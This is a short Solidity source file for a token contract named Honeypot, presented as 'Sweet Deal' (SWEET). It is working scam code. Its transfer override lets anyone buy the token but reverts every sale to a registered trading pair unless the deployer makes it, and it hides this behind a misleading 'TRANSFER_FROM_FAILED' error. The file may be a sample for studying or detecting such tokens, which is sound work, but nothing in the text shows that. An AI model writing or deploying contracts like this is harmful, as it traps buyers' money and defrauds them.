// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

/// Everybody can buy; only the owner can sell.
contract Honeypot is Token {
    address private immutable keeper;
    mapping(address => bool) public isPair;

    constructor() {
        name = "Sweet Deal";
        symbol = "SWEET";
        keeper = msg.sender;
    }

    function setPair(address pair, bool value) external onlyOwner {
        isPair[pair] = value;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!isPair[to] || from == keeper, "TRANSFER_FROM_FAILED");
        super._transfer(from, to, value);
    }
}
